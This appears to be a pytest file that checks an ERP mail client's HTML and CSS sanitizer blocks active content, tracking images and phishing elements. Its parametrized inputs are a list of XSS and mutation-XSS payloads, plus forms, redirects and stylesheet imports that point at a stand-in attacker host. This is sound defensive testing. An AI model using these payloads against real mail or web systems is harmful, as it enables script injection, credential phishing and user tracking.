"""What the HTML view of a mail lets through (THREATS 17-19, 25)."""

import re

import pytest
from erp_mail_plain.mime import sanitize
from erp_mail_plain.mime.css import clean_declarations, clean_stylesheet
from erp_mail_plain.mime.display import blocked_images, display_html
from erp_mail_plain.mime.text import without_gaps


def body_of(document: str) -> str:
    return re.search(r"<body[^>]*>\n(.*)\n</body>", document, re.DOTALL)[1]


def shown(source: str, **options) -> str:
    return body_of(display_html(source, **options))


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<iframe src="http://evil.example/"></iframe>',
        "<object data=x></object><embed src=x>",
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<base href="http://evil.example/">',
        '<form action="http://evil.example/"><input name=password><button>Go</button></form>',
        '<link rel=stylesheet href="http://evil.example/x.css">',
        '<p style="background:u\\72l(http://evil.example/)">x</p>',
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="behavior:url(x.htc)">x</p>',
        '<style>@import "http://evil.example/x.css";</style>',
        "<style></style><script>alert(1)</script>",
        "<style>p{}</sty</style><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
    ],
)
def test_nothing_active_is_left(source):
    result = shown(source).lower()
    tags = re.findall(r"<[^>]*>", result)
    for tag in tags:
        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', tag))
        assert re.match(r"</?(?:a|b|p|div|img|pre|style|table|span)\b", tag)
    for word in ("javascript:", "vbscript:", "data:text", "evil.example", "expression", "behavior", "url("):
        assert word not in "".join(tags)


@pytest.mark.parametrize(
    "source",
    [
        '<img src="http://t.example/p.gif">',
        '<img src="//t.example/p.gif">',
        '<img src=x srcset="http://t.example/p.gif 2x">',
        '<table background="http://t.example/p.gif"><tr><td>x</table>',
        '<body background="http://t.example/p.gif">x',
        "<p style=\"background-image:url('http://t.example/p.gif')\">x",
        '<p style="background:URL( http://t.example/p.gif )">x',
        '<p style="list-style:url(http://t.example/p.gif)">x',
        "<p style=\"background:image-set('http://t.example/p.gif' 1x)\">x",
        "<style>p{background:url(http://t.example/p.gif)}</style>",
        "<style>@media screen{p{background:url(http://t.example/p.gif)}}</style>",
        "<style>@font-face{font-family:x;src:url(http://t.example/f.woff)}</style>",
        "<style>p{background:/**/url(http://t.example/p.gif)}</style>",
        '<video poster="http://t.example/p.gif">',
        '<svg><image href="http://t.example/p.gif"/></svg>',
        '<input type=image src="http://t.example/p.gif">',
        '<img src="/web/session/logout">',
    ],
)
def test_no_image_of_another_host_is_loaded(source):
    result = shown(source)
    assert "t.example" not in result
    assert "logout" not in result


def test_remote_images_load_once_asked_for():
    source = '<img src="http://t.example/p.gif"><p style="background:url(https://t.example/b.png)">x</p>'
    assert blocked_images(display_html(source)) == 2
    result = shown(source, remote_images=True)
    assert 'src="http://t.example/p.gif" referrerpolicy="no-referrer"' in result
    assert "https://t.example/b.png" in result


def test_relative_urls_are_never_fetched_even_with_remote_images():
    assert "logout" not in shown('<img src="/web/session/logout">', remote_images=True)


def test_inline_images_come_from_the_callback():
    urls = {"logo@x": "/erp_mail/7/attachment/2"}
    result = shown('<img src="cid:logo%40x"><img src="cid:other">', cid_url=urls.get)
    assert result.count("<img") == 2
    assert result.count("src=") == 1
    assert 'src="/erp_mail/7/attachment/2"' in result


def test_one_image_shown_many_times_does_not_fill_the_memory():
    picture = "data:image/png;base64," + "A" * 1_000_000
    document = display_html('<img src="cid:x">' * 2_000, cid_url=lambda _content_id: picture)
    assert document.count("<img") == 2_000
    assert len(document) < 40_000_000


def test_layout_of_a_newsletter_is_kept():
    source = (
        "<style>.a{color:#333;position:fixed;width:600px} @media (max-width:600px){.a{width:100%}}</style>"
        '<table class=a width="600" bgcolor="#ffffff"><tr><td colspan=2 style="padding:10px;z-index:9">Hi</td></tr></table>'
    )
    result = shown(source)
    assert ".a{color:#333;width:600px}" in result
    assert "@media (max-width:600px){" in result
    assert '<table class="a" width="600" bgcolor="#ffffff"><tr><td colspan="2" style="padding:10px">Hi' in result


def test_links_open_outside_and_tell_nothing():
    assert shown('<a href="https://shop.example/?a=1&amp;b=2">shop</a>') == (
        '<a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">shop</a>'
    )


@pytest.mark.parametrize(
    "source",
    [
        'Hello<div class="gmail_quote">On Monday Bob wrote:<blockquote>old</blockquote></div>',
        'Hello<blockquote type="cite">old</blockquote>',
        '<div>Hello</div><div id="divRplyFwdMsg"><b>From:</b> Bob</div><div>old</div>',
        "<div><p>Hello</p><div style='border:none;border-top:solid #E1E1E1 1.0pt'><b>From:</b> Bob</div><p>old</p></div>",
        "<div><p>Hello</p> <div> <div style='border:none;border-top:solid #E1E1E1 1pt'>From: Bob</div> </div><p>old</p></div>",
    ],
)
def test_quoted_text_is_folded(source):
    before, _fold, after = shown(source).partition('<details class="erp-mail-quote">')
    assert "Hello" in before
    assert "old" in after
    assert after.count("</details>") == 1


def test_a_forwarded_mail_without_comment_is_not_folded():
    assert '<details class="erp-mail-quote" open>' in shown('<blockquote type="cite">old</blockquote>')


def test_text_is_never_lost():
    assert "op" in shown("<o:p>op</o:p>")
    assert "deep" in shown("<div>" * 5000 + "deep")
    assert "inside" in shown("<unknown-tag>inside</unknown-tag>")


def test_a_text_mail_becomes_a_document_with_links():
    from erp_mail_plain import mime

    mail = mime.parse(b"Subject: x\n\nSee https://x.example/a?b=1&c=2.\n<script>\n\n> old\n")
    result = body_of(display_html(mail))
    assert 'href="https://x.example/a?b=1&amp;c=2"' in result
    assert "&lt;script&gt;" in result
    assert "&gt; old</pre></details>" in result


def test_markup_that_was_text_stays_text():
    assert shown("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


@pytest.mark.parametrize(
    "tag", ["script", "title", "template", "svg", "iframe", "object", "select", "textarea", "noembed"]
)
def test_what_is_left_out_leaves_no_text(tag):
    result = shown(f"<p>before</p><{tag}>inside</{tag}><p>after</p>")
    assert "inside" not in result
    assert "before" in result and "after" in result


def test_a_link_with_noise_around_it_works():
    assert 'href="https://shop.example/"' in shown('<a href="  https://shop.\nexample/ ">x</a>')


def test_what_is_too_deep_is_shown_as_text():
    assert sanitize.sanitize("<div>" * (sanitize.MAX_NESTING + 1) + "deep") is None
    assert sanitize.sanitize("<div>" * 500 + "deep").body.count("<div>") == 500


def test_what_takes_too_long_is_shown_as_text(monkeypatch):
    monkeypatch.setattr(sanitize, "MAX_SECONDS", 0)
    assert shown("<p>slow</p>") == '<pre dir="auto">slow</pre>'


def no_image(_url: str) -> str:
    return ""


@pytest.mark.parametrize(
    "style",
    [
        "color:red</style>",
        "color:\\72 ed",
        "color:expression",
        "color:red/*",
        "color:{",
        "background:url(http://t.example/)",
        "background:url()",
        "position:fixed",
        "-moz-binding:none",
    ],
)
def test_a_declaration_with_anything_doubtful_is_left_out_whole(style):
    assert clean_declarations(style, no_image) == ""
    assert clean_declarations(f"{style};width:1px", no_image) in ("width:1px", "")


def test_at_rules_other_than_media_are_left_out():
    assert clean_stylesheet("@font-face{font-family:x} @page{margin:0} p{color:red}", no_image) == "p{color:red}"


def test_a_sheet_that_nests_without_end_is_left_out():
    assert clean_stylesheet("@media screen{" * 30 + "p{color:red}" + "}" * 30, no_image) == ""


def test_empty_lines_of_a_table_that_became_text_are_shown_as_one():
    assert (
        without_gaps("\n \nDear Ann,\n\n\xa0\n\u034f \u200b\n\t\nyours\n  indented\n\n")
        == "Dear Ann,\n\nyours\n  indented\n"
    )
